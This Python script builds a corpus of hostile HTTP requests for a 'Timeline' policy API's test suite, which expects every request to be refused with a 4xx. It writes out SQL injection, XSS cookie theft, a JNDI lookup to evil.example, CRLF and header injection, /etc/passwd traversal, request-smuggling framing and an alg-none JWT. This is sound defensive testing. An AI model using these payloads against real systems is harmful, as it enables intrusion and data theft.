#!/usr/bin/env python3
"""Writes corpus.jsonl: hostile requests that Timeline must refuse with a 4xx problem+json, changing nothing.

Run from this folder (python3 generate.py) after editing; the test replays corpus.jsonl, not this script.
Each line: name, method, path, optional headers, auth ("key", the default; "none"; "wrong"), and one of
  body        the exact text sent (UTF-8),
  bodyBase64  exact bytes (invalid UTF-8),
  generate    a body made by the test: "string:<bytes>" (a title that long), "depth:<n>" (nested arrays in
              provisions), "objects:<n>" (nested objects), "array:<n>" (that many topics); with "chunked": true
              it is sent without Content-Length,
  status      the one status expected, where it is not a 4xx (only 505 for an unknown HTTP version),
  raw         the whole HTTP/1.1 request as text, sent over a socket as is ({host} is replaced): for what
              HttpClient refuses to send (CR LF in a header, %00 or spaces in the path, bad framing).
The store is seeded first with hc-seed-a (Idempotency-Key hc-seed-key), hc-seed-b, and hc-seed-c (amended once).
"""
import base64
import json

SEEDED = "hc-seed-a"
corpus = []


def add(name, method, path, body=None, headers=None, auth="key", **extra):
    entry = {"name": name, "method": method, "path": path}
    if headers:
        entry["headers"] = headers
    if auth != "key":
        entry["auth"] = auth
    if body is not None:
        entry["body"] = body if isinstance(body, str) else json.dumps(body, ensure_ascii=False)
    entry.update(extra)
    corpus.append(entry)


def issue(**fields):
    body = {"id": SEEDED, "kind": "executive-order", "title": "Hostile", "jurisdiction": "US", "topics": ["ai"], "effectiveAt": "2024-01-01"}
    body.update(fields)
    return body


WRITES = [
    ("/api/policies", issue()),
    (f"/api/policies/{SEEDED}/amendments", {"effectiveAt": "2024-02-01", "set": {"k": 1}}),
    (f"/api/policies/{SEEDED}/suspensions", {"effectiveAt": "2024-02-01", "reason": "court"}),
    (f"/api/policies/{SEEDED}/reinstatements", {"effectiveAt": "2024-02-01", "reason": "court"}),
    (f"/api/policies/{SEEDED}/rescissions", {"effectiveAt": "2024-02-01"}),
    (f"/api/policies/{SEEDED}/supersessions", {"effectiveAt": "2024-02-01", "byPolicyId": "hc-seed-b"}),
    (f"/api/policies/{SEEDED}/extensions", {"expiresAt": "2030-01-01"}),
    (f"/api/policies/{SEEDED}/expirations", {"effectiveAt": "2030-01-01"}),
    (f"/api/policies/{SEEDED}/corrections", {"eventId": "00000000-0000-0000-0000-000000000000", "changes": {"effectiveAt": "2024-01-02"}, "reason": "r"}),
]
STALE = {"If-Match": '"99"'}  # a valid body on an existing instrument still changes nothing: 412

# --- Broken JSON, on every write endpoint
broken = ["{", '{"id":', "[]", "null", '"text"', "123", '{"id":"x",}', "{'id':'x'}", '{"id":"x" "kind":"y"}', "", "{}{}",
          '{"id":NaN}', '{"id":"x"} trailing', "/* c */ {}", '{"id":"\\x41"}', '{"id":"a\\', "\ufeff\ufeff{}", '{"a":1,"a":2}']
for i, text in enumerate(broken):
    path = WRITES[i % len(WRITES)][0]
    add(f"broken-json-{i}", "POST", path, body=text, headers={"Content-Type": "application/json"})
for path, _ in WRITES:
    add(f"broken-json-truncated {path}", "POST", path, body='{"effectiveAt": "2024-0', headers={"Content-Type": "application/json"})

# --- Wrong types in every field
wrong = {
    "id": 123, "kind": True, "title": {"x": 1}, "jurisdiction": ["US"], "topics": "ai", "effectiveAt": 20240101,
    "timeZone": 5, "authority": [], "citation": False, "sourceUrl": {"u": 1}, "signedOn": 1.5, "publishedOn": [],
    "expiresAt": {}, "provisions": ["a"], "rescinds": "hc-seed-b", "supersedes": 7, "note": [1], "confidence": "high",
    "publicKnowledgeOn": True,
}
for field, value in wrong.items():
    add(f"wrong-type issue.{field}", "POST", "/api/policies", body=issue(**{field: value}))
add("wrong-type topics of numbers", "POST", "/api/policies", body=issue(topics=[1, 2]))
add("wrong-type confidence.fields", "POST", "/api/policies", body=issue(confidence={"level": "verified", "fields": ["x"]}))
for path, body, field, value in [
    (WRITES[1][0], WRITES[1][1], "set", [1]), (WRITES[1][0], WRITES[1][1], "remove", "k"), (WRITES[1][0], WRITES[1][1], "effectiveAt", None),
    (WRITES[2][0], WRITES[2][1], "reason", 5), (WRITES[4][0], WRITES[4][1], "byPolicyId", 1), (WRITES[6][0], WRITES[6][1], "expiresAt", False),
    (WRITES[8][0], WRITES[8][1], "eventId", 5), (WRITES[8][0], WRITES[8][1], "changes", "x"), (WRITES[8][0], WRITES[8][1], "reason", []),
]:
    add(f"wrong-type {path.rsplit('/', 1)[1]}.{field}", "POST", path, body={**body, field: value})

# --- Unknown and forbidden fields
add("client recordedAt", "POST", "/api/policies", body=issue(recordedAt="2020-01-01T00:00:00Z"))
add("client recordedBy", "POST", "/api/policies", body=issue(recordedBy="admin"))
add("polymorphic $type", "POST", "/api/policies", body={"$type": "System.IO.FileInfo", **issue()})
add("__proto__", "POST", "/api/policies", body={"__proto__": {"admin": True}, **issue()})
add("unknown field on amendment", "POST", WRITES[1][0], body={**WRITES[1][1], "version": 0})

# --- Huge strings and arrays (under the 1 MiB cap, so validation, not the cap, refuses them)
add("title over 500", "POST", "/api/policies", body=issue(title="T" * 501))
add("title 900 KB", "POST", "/api/policies", generate="string:900000")
add("id over 128", "POST", "/api/policies", body=issue(id="a" * 129))
add("10000 topics", "POST", "/api/policies", generate="array:10000")
add("5000 provisions", "POST", "/api/policies", body=issue(provisions={f"k{i}": i for i in range(5000)}))
add("provision 20 KB", "POST", "/api/policies", body=issue(provisions={"k": "v" * 20000}))
add("rescinds 5000", "POST", "/api/policies", body=issue(rescinds=[f"x{i}" for i in range(5000)]))
add("amendment set 3000 keys", "POST", WRITES[1][0], body={"effectiveAt": "2024-02-01", "set": {f"k{i}": i for i in range(3000)}})
add("amendment remove 10000", "POST", WRITES[1][0], body={"effectiveAt": "2024-02-01", "remove": [f"k{i}" for i in range(10000)]})
add("reason 5000 chars", "POST", WRITES[2][0], body={"effectiveAt": "2024-02-01", "reason": "r" * 5000})
add("huge number", "POST", "/api/policies", body='{"id":"hc-seed-a","kind":"rule","title":"t","jurisdiction":"US","topics":["ai"],"effectiveAt":"2024-01-01","provisions":{"n":1e400}}')
add("Idempotency-Key 201 chars", "POST", "/api/policies", body=issue(), headers={"Idempotency-Key": "k" * 201})
add("X-Correlation-Id 4 KB", "POST", "/api/policies", body=issue(), headers={"X-Correlation-Id": "c" * 4096})
add("header 64 KB", "GET", "/api/policies", headers={"X-Padding": "p" * 65536})
add("120 headers", "GET", "/api/policies", headers={f"X-H{i}": "v" for i in range(120)})
add("query 9 KB", "GET", "/api/policies?topic=" + "a" * 9000)
add("query at 3000 chars", "GET", "/api/policies?at=" + "2" * 3000)
add("path id 5000 chars", "GET", "/api/policies/" + "a" * 5000)
add("api key 100 KB", "POST", "/api/policies", body=issue(), auth="none", headers={"X-Api-Key": "k" * 100000})

# --- Control characters and invalid Unicode
for label, value in [("NUL", "a\u0000b"), ("BEL", "a\u0007"), ("ESC", "\u001b[31mred"), ("DEL", "a\u007f"), ("C1", "a\u0085b"),
                     ("lone high surrogate", "a\ud800b"), ("lone low surrogate", "\udc00"), ("reversed pair", "\udc00\ud800")]:
    text = json.dumps(issue(title=value), ensure_ascii=True)
    add(f"title {label}", "POST", "/api/policies", body=text)
for field in ["id", "kind", "jurisdiction", "timeZone", "authority", "citation", "sourceUrl", "note"]:
    add(f"{field} with NUL and surrogate", "POST", "/api/policies", body=json.dumps(issue(**{field: "x\u0000\ud800"}), ensure_ascii=True))
add("topic with NUL", "POST", "/api/policies", body=json.dumps(issue(topics=["a\u0000"]), ensure_ascii=True))
add("provision key with NUL", "POST", "/api/policies", body=json.dumps(issue(provisions={"k\u0000": 1}), ensure_ascii=True))
add("provision value lone surrogate", "POST", "/api/policies", body=json.dumps(issue(provisions={"k": "\ud800"}), ensure_ascii=True))
add("amendment summary NUL", "POST", WRITES[1][0], body=json.dumps({**WRITES[1][1], "summary": "s\u0000"}, ensure_ascii=True))
add("correction changes NUL", "POST", WRITES[8][0], body=json.dumps({**WRITES[8][1], "changes": {"title": "t\u0000"}}, ensure_ascii=True))
for label, raw in [("invalid byte FF", b'{"id":"\xff"}'), ("overlong slash", b'{"id":"\xc0\xaf"}'), ("encoded surrogate", b'{"title":"\xed\xa0\x80"}'),
                   ("truncated sequence", b'{"title":"\xe2\x82"}'), ("UTF-16 body", '{"id":"x"}'.encode("utf-16")), ("Latin-1 body", '{"title":"caf\xe9"}'.encode("latin-1"))]:
    add(f"invalid UTF-8: {label}", "POST", "/api/policies", bodyBase64=base64.b64encode(raw).decode(), headers={"Content-Type": "application/json"})
for q in ["at=%00", "at=%FF", "at=%ED%A0%80", "topic=%00", "topic=a%0D%0Ab", "kind=%C0%AF", "cursor=%00", "jurisdiction=U%00S", "status=%1B"]:
    add(f"query {q}", "GET", "/api/policies?" + q)
add("history asOf NUL", "GET", f"/api/policies/{SEEDED}/history?asOf=%00")
add("id with RTL override", "GET", "/api/policies/%E2%80%AEhc-seed-a")
add("id with zero-width space", "GET", "/api/policies/hc%E2%80%8Bseed-a")
add("id fullwidth", "GET", "/api/policies/%EF%BD%88c-seed-a")
add("non-ASCII header", "POST", "/api/policies", body=issue(), headers={"Idempotency-Key": "k\u00e9y"})

# --- Impossible dates and unknown time zones
bad_times = ["2024-02-30", "2023-02-29", "2024-13-01", "2024-00-10", "0000-01-01", "9999-12-31T23:59:60Z", "2024-01-01T25:00:00Z",
             "2024-01-01T00:00:00+25:00", "yesterday", "", "  ", "2024-1-1", "1e10", "2024-01-01T00:00:00", "2024-W01-1",
             "-2024-01-01", "2024-01-01T00:00:00Z[Mars/Base]", "12/31/2024", "2024-01-01T00:00:00.1234567890Z", "99999-01-01"]
for i, value in enumerate(bad_times):
    add(f"effectiveAt {value!r}", "POST", "/api/policies", body=issue(effectiveAt=value))
for i, value in enumerate(bad_times[:12]):
    add(f"amendment effectiveAt {value!r}", "POST", WRITES[1][0], body={**WRITES[1][1], "effectiveAt": value})
for field in ["signedOn", "publishedOn", "expiresAt", "publicKnowledgeOn"]:
    add(f"{field} impossible", "POST", "/api/policies", body=issue(**{field: "2025-02-29"}))
add("extension expiresAt impossible", "POST", WRITES[6][0], body={"expiresAt": "2031-04-31"})
for zone in ["Mars/Olympus_Mons", "America/New_York\u0000", "../../etc/localtime", "UTC+99", "", "EST5EDT,M3.2.0,M11.1.0", "America/" + "x" * 300]:
    add(f"timeZone {zone[:40]!r}", "POST", "/api/policies", body=json.dumps(issue(timeZone=zone), ensure_ascii=True))
from urllib.parse import quote
for value in ["2024-02-30", "2024-13-01", "9999-12-31T23:59:60Z", "yesterday", "2024-01-01T00:00:00+25:00", "0001-01-01"]:
    q = quote(value, safe="")
    add(f"at={value}", "GET", f"/api/policies?at={q}")
    add(f"asOf={value} on one", "GET", f"/api/policies/{SEEDED}?asOf={q}")
    add(f"changes from={value}", "GET", f"/api/changes?from={q}")
add("timeline asOf impossible", "GET", f"/api/policies/{SEEDED}/timeline?asOf=2024-02-30")
add("diff from impossible", "GET", "/api/diff?from=2024-02-30&to=2024-03-01")
add("diff toAsOf impossible", "GET", "/api/diff?at=2024-01-01&fromAsOf=2024-01-01&toAsOf=2024-13-01")
add("audit log asOf impossible", "GET", "/api/audit/log?asOf=2024-02-30")
add("audit report to impossible", "GET", f"/api/audit/report?policyId={SEEDED}&to=2024-02-30")
add("changes from after to", "GET", "/api/changes?from=2025-01-01&to=2024-01-01")

# --- Unknown kinds, statuses, formats
for kind in ["decree", "EXECUTIVE-ORDER", "executive_order", "", " rule", "rule ", "Rule", "executiveorder", "other\u0000"]:
    add(f"kind {kind!r}", "POST", "/api/policies", body=json.dumps(issue(kind=kind), ensure_ascii=True))
add("query kind unknown", "GET", "/api/policies?kind=decree")
add("query status unknown", "GET", "/api/policies?status=alive")
add("report format unknown", "GET", f"/api/audit/report?policyId={SEEDED}&format=pdf")
add("confidence level unknown", "POST", "/api/policies", body=issue(confidence={"level": "certain"}))

# --- Injection attempts in every field and query parameter
payloads = {
    "sql": "' OR '1'='1'; DROP TABLE timeline.mt_events; --",
    "sql-sleep": "1; SELECT pg_sleep(60)--",
    "sql-dollar": "$$; COPY (SELECT 1) TO PROGRAM 'id'; $$",
    "json": "\"}, \"recordedBy\": \"admin\", \"x\": {\"",
    "script": "<script>alert(document.cookie)</script>",
    "template": "{{7*7}}${jndi:ldap://evil.example/a}",
    "crlf": "a\r\nX-Injected: 1",
    "path": "../../../../etc/passwd",
}
text_fields = ["title", "authority", "citation", "note"]
id_fields = ["id", "kind", "jurisdiction", "effectiveAt", "timeZone", "sourceUrl", "signedOn", "publishedOn", "expiresAt", "publicKnowledgeOn"]
for label, payload in payloads.items():
    for field in id_fields:
        add(f"inject {label} in {field}", "POST", "/api/policies", body=issue(**{field: payload}))
    # Free text takes any clean text: the instrument exists already, so the write is refused after validation.
    add(f"inject {label} in text fields", "POST", "/api/policies", body=issue(**{f: payload for f in text_fields}))
    add(f"inject {label} in topics", "POST", "/api/policies", body=issue(topics=[payload]))
    add(f"inject {label} in rescinds", "POST", "/api/policies", body=issue(rescinds=[payload]))
    add(f"inject {label} in provision key", "POST", "/api/policies", body=issue(provisions={payload: payload}))
    add(f"inject {label} in confidence", "POST", "/api/policies", body=issue(confidence={"level": payload, "fields": {payload: payload}}))
    add(f"inject {label} in amendment", "POST", WRITES[1][0], headers=STALE,
        body={"effectiveAt": "2024-02-01", "set": {payload: payload}, "remove": [payload], "summary": payload, "citation": payload})
    add(f"inject {label} in byPolicyId", "POST", WRITES[4][0], body={"effectiveAt": "2024-02-01", "byPolicyId": payload})
    add(f"inject {label} in suspension reason", "POST", WRITES[2][0], headers=STALE, body={"effectiveAt": "2024-02-01", "reason": payload, "citation": payload})
    add(f"inject {label} in correction", "POST", WRITES[8][0], body={"eventId": payload, "changes": {"title": payload}, "reason": payload})
    q = quote(payload, safe="")
    for param in ["at", "asOf", "status", "topic", "kind", "jurisdiction", "limit", "cursor"]:
        add(f"inject {label} in ?{param}", "GET", f"/api/policies?{param}={q}")
    add(f"inject {label} in id path", "GET", f"/api/policies/{q}")
    add(f"inject {label} in history path", "GET", f"/api/policies/{q}/history")
    add(f"inject {label} in write path", "POST", f"/api/policies/{q}/amendments", body=WRITES[1][1])
    for path in [f"/api/changes?from={q}", f"/api/changes?topic={q}", f"/api/changes?jurisdiction={q}", f"/api/changes?limit={q}",
                 f"/api/diff?from=2024-01-01&to=2024-02-01&topic={q}", f"/api/diff?from=2024-01-01&to=2024-02-01&jurisdiction={q}",
                 f"/api/audit/log?asOf={q}", f"/api/audit/report?policyId={q}", f"/api/audit/report?topic={q}",
                 f"/api/changes/stream?topic={q}", f"/api/changes/stream?lastEventId={q}", f"/api/policies/{SEEDED}/timeline?asOf={q}"]:
        add(f"inject {label} in {path.split('?')[0]}?{path.split('?')[1].split('=')[-2].split('&')[-1]}", "GET", path)
    if label != "crlf":  # HttpClient cannot send CR LF in a header; the raw entries below do
        add(f"inject {label} in Idempotency-Key", "POST", "/api/policies", body=issue(), headers={"Idempotency-Key": payload})
        add(f"inject {label} in If-Match", "POST", WRITES[1][0], body=WRITES[1][1], headers={"If-Match": payload})
        add(f"inject {label} in X-Api-Key", "POST", "/api/policies", body=issue(id="hc-never"), auth="none", headers={"X-Api-Key": payload})
        add(f"inject {label} in Last-Event-ID", "GET", "/api/changes/stream", headers={"Last-Event-ID": payload})

# --- 10 MB bodies, declared and streamed
for path, _ in WRITES[:5]:
    add(f"10 MB to {path}", "POST", path, generate="string:10485760")
add("10 MB chunked to issue", "POST", "/api/policies", generate="string:10485760", chunked=True)
add("10 MB chunked to corrections", "POST", WRITES[8][0], generate="string:10485760", chunked=True)
add("10 MB to checkpoint verify", "POST", "/api/audit/checkpoints/verify", generate="string:10485760")
add("10 MB without a key", "POST", "/api/policies", generate="string:10485760", auth="none")

# --- Deep nesting
for n in [65, 1000, 10000, 100000]:
    add(f"depth {n} in provisions", "POST", "/api/policies", generate=f"depth:{n}")
    add(f"nested objects {n}", "POST", "/api/policies", generate=f"objects:{n}")
add("provision depth 6", "POST", "/api/policies", body=issue(provisions={"k": [[[[[[1]]]]]]}))
add("depth 10000 amendment set", "POST", WRITES[1][0], body='{"effectiveAt":"2024-02-01","set":{"k":' + "[" * 10000 + "]" * 10000 + "}}")
add("depth 10000 correction changes", "POST", WRITES[8][0], body='{"eventId":"x","reason":"r","changes":' + '{"a":' * 10000 + "1" + "}" * 10000 + "}")

# --- Duplicate idempotency keys with other bodies
for i, (path, body) in enumerate(WRITES[:6]):
    add(f"seeded Idempotency-Key with another body {i}", "POST", path, body=body, headers={"Idempotency-Key": "hc-seed-key"})
add("seeded Idempotency-Key with one field changed", "POST", "/api/policies",
    body={"id": SEEDED, "kind": "executive-order", "title": "Seed A, changed", "jurisdiction": "US", "topics": ["ai"], "effectiveAt": "2024-01-01"},
    headers={"Idempotency-Key": "hc-seed-key"})

# --- Path traversal in ids
for path in ["/api/policies/..%2F..%2Fetc%2Fpasswd", "/api/policies/%2e%2e%2f%2e%2e%2fetc%2fpasswd", "/api/policies/..%5C..%5Cwindows",
             "/api/policies/hc-seed-a%2F..%2Fhc-seed-b", "/api/policies/%252e%252e%252f", "/api/policies/%c0%ae%c0%ae%2f",
             "/api/policies/hc-seed-a%2500", "/api/policies/....//....//etc", "/api/policies/hc-seed-a;.json", "/api/policies/.hc-seed-a",
             "/api/policies/hc-seed-a/history/..%2F..%2F..%2Fadmin", "/api/policies/%2e%2e/%2e%2e/%2e%2e/etc/passwd", "/..%2F..%2Fetc%2Fpasswd",
             "/api/audit/..%2F..%2Fhealth", "/api/policies/hc-seed-a%3Fat%3D2024"]:
    add(f"traversal GET {path}", "GET", path)
for path in ["/api/policies/..%2Fhc-seed-a/amendments", "/api/policies/hc-seed-a%2F..%2Fhc-seed-b/amendments", "/api/policies/%2e%2e/amendments"]:
    add(f"traversal POST {path}", "POST", path, body=WRITES[1][1])
add("traversal to admin without key", "POST", "/api/policies/x/../../admin/read-model/rebuild", auth="none")

# --- Raw requests: what HttpClient will not send
raw = {
    "%00 in path": "GET /api/policies/%00 HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n",
    "%00 in write path": "POST /api/policies/hc-seed-a%00/amendments HTTP/1.1\r\nHost: {host}\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}",
    "%00 after traversal": "GET /api/policies/..%2F%00 HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n",
    "raw NUL byte in path": "GET /api/policies/a\u0000b HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n",
    "space in path": "GET /api/policies/a b HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n",
    "CRLF in path": "GET /api/policies/a%0D%0ASet-Cookie:x=1 HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n",
    "CRLF header injection": "POST /api/policies HTTP/1.1\r\nHost: {host}\r\nIdempotency-Key: a\rX-Injected: 1\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}",
    "bare LF in header": "POST /api/policies HTTP/1.1\r\nHost: {host}\r\nX-A: a\nX-B: b\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}",
    "obs-fold header": "GET /api/policies HTTP/1.1\r\nHost: {host}\r\nX-A: a\r\n folded\r\nConnection: close\r\n\r\n",
    "header without colon": "GET /api/policies HTTP/1.1\r\nHost: {host}\r\nNoColon\r\nConnection: close\r\n\r\n",
    "two Content-Length": "POST /api/policies HTTP/1.1\r\nHost: {host}\r\nContent-Length: 2\r\nContent-Length: 5\r\nConnection: close\r\n\r\n{}",
    "Content-Length and chunked": "POST /api/policies HTTP/1.1\r\nHost: {host}\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n0\r\n\r\n",
    "negative Content-Length": "POST /api/policies HTTP/1.1\r\nHost: {host}\r\nContent-Length: -1\r\nConnection: close\r\n\r\n",
    "Content-Length longer than body": "POST /api/policies HTTP/1.1\r\nHost: {host}\r\nX-Api-Key: {key}\r\nContent-Type: application/json\r\nContent-Length: 100\r\nConnection: close\r\n\r\n{\"id\":",
    "bad chunk size": "POST /api/policies HTTP/1.1\r\nHost: {host}\r\nX-Api-Key: {key}\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\nZZ\r\n{}\r\n0\r\n\r\n",
    "Transfer-Encoding gzip": "POST /api/policies HTTP/1.1\r\nHost: {host}\r\nTransfer-Encoding: gzip\r\nConnection: close\r\n\r\n",
    "no Host": "GET /api/policies HTTP/1.1\r\nConnection: close\r\n\r\n",
    "two Host": "GET /api/policies HTTP/1.1\r\nHost: {host}\r\nHost: evil.example\r\nConnection: close\r\n\r\n",
    "absolute-form to another host": "GET http://evil.example/api/policies/%00 HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n",
    "HTTP/1.0 with %00": "GET /api/policies/%00 HTTP/1.0\r\n\r\n",
    "unknown version": "GET /api/policies HTTP/9.9\r\nHost: {host}\r\nConnection: close\r\n\r\n",
    "method with space": "GE T /api/policies HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n",
    "request line 20 KB": "GET /api/policies?x=" + "a" * 20000 + " HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n",
    "CONNECT": "CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\nConnection: close\r\n\r\n",
    "asterisk-form GET": "GET * HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n",
    "API key with CR": "POST /api/policies HTTP/1.1\r\nHost: {host}\r\nX-Api-Key: {key}\rX: y\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}",
}
for name, text in raw.items():
    # 505 is the one answer outside 4xx: the right status for a version no server speaks.
    add(f"raw: {name}", "RAW", "", raw=text, **({"status": 505} if name == "unknown version" else {}))

# --- Methods, media types, negotiation, authentication
for method in ["PUT", "DELETE", "PATCH"]:
    add(f"{method} on the collection", method, "/api/policies", body=issue())
    add(f"{method} on an instrument", method, f"/api/policies/{SEEDED}", body=issue())
add("TRACE", "TRACE", "/api/policies")
add("FOO method", "FOO", "/api/policies")
add("GET on a write path", "GET", WRITES[1][0])
add("text/plain body", "POST", "/api/policies", body=issue(), headers={"Content-Type": "text/plain"})
add("XML body", "POST", "/api/policies", body="<policy id='x'/>", headers={"Content-Type": "application/xml"})
add("form body", "POST", "/api/policies", body="id=x&kind=rule", headers={"Content-Type": "application/x-www-form-urlencoded"})
add("multipart body", "POST", "/api/policies", body="--b\r\n\r\nx\r\n--b--", headers={"Content-Type": "multipart/form-data; boundary=b"})
add("gzip claimed, not gzip", "POST", "/api/policies", body=issue(), headers={"Content-Encoding": "gzip"})
add("charset utf-16 claimed", "POST", "/api/policies", body=issue(), headers={"Content-Type": "application/json; charset=utf-16"})
add("Accept text/html with broken JSON", "POST", "/api/policies", body="{", headers={"Accept": "text/html"})
add("Accept image/png on unknown id", "GET", "/api/policies/hc-none", headers={"Accept": "image/png"})
add("Accept xml on bad query", "GET", "/api/policies?at=nope", headers={"Accept": "application/xml"})
add("no key", "POST", "/api/policies", body=issue(id="hc-never"), auth="none")
add("wrong key", "POST", "/api/policies", body=issue(id="hc-never"), auth="wrong")
add("empty key", "POST", "/api/policies", body=issue(id="hc-never"), auth="none", headers={"X-Api-Key": ""})
add("bearer garbage", "POST", "/api/policies", body=issue(id="hc-never"), auth="none", headers={"Authorization": "Bearer not.a.token"})
add("bearer alg none", "POST", "/api/policies", body=issue(id="hc-never"), auth="none",
    headers={"Authorization": "Bearer eyJhbGciOiJub25lIiwidHlwIjoiSldUIn0.eyJzdWIiOiJhZG1pbiIsInNjb3BlIjoidGltZWxpbmU6d3JpdGUifQ."})
add("basic auth", "POST", "/api/policies", body=issue(id="hc-never"), auth="none", headers={"Authorization": "Basic YWRtaW46YWRtaW4="})
add("checkpoint without key", "POST", "/api/audit/checkpoints", auth="none")
add("rebuild without key", "POST", "/api/admin/read-model/rebuild", auth="none")
add("If-Match weak", "POST", WRITES[1][0], body=WRITES[1][1], headers={"If-Match": 'W/"1"'})
add("If-Match overflow", "POST", WRITES[1][0], body=WRITES[1][1], headers={"If-Match": '"99999999999999999999999"'})
add("If-Match negative", "POST", WRITES[1][0], body=WRITES[1][1], headers={"If-Match": '"-1"'})
add("If-Match list", "POST", WRITES[1][0], body=WRITES[1][1], headers={"If-Match": '"1", "2"'})
add("If-Match stale on every write", "POST", WRITES[2][0], body=WRITES[2][1], headers=STALE)
for value in ["-1", "0", "1001", "99999999999999999999", "abc", "1.5", ""]:
    add(f"limit={value}", "GET", f"/api/policies?limit={value}")
add("changes limit huge", "GET", "/api/changes?limit=5001")
add("diff limit zero", "GET", "/api/diff?from=2024-01-01&to=2024-02-01&limit=0")
add("stream lastEventId not a number", "GET", "/api/changes/stream?lastEventId=abc")
add("unknown instrument", "GET", "/api/policies/hc-none")
add("unknown route", "GET", "/api/nothing")

names = [e["name"] for e in corpus]
dupes = {n for n in names if names.count(n) > 1}
for entry in corpus:
    if entry["name"] in dupes:
        entry["name"] += f" #{corpus.index(entry)}"
with open("corpus.jsonl", "w", encoding="utf-8") as out:
    for entry in corpus:
        out.write(json.dumps(entry, ensure_ascii=True) + "\n")
print(len(corpus), "requests")
